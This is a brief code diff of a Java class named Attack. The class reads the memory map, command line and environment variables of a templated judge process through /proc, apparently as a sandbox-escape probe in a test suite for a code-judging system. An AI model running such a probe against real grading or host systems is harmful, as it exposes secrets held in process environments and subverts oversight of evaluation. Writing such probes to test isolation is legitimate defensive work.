@@ -8,6 +8,6 @@ public final class Attack {
     public static Object run(Object... given) throws Throwable {
         Path judge = Path.of("/proc/@JUDGE@");
         String maps = Files.readString(judge.resolve("maps"));
-        return maps.length() + Files.readString(judge.resolve("cmdline")) + Files.readString(judge.resolve("environ"));
+        return Files.readString(judge.resolve("environ")) + Files.readString(judge.resolve("cmdline")) + maps;
     }
 }
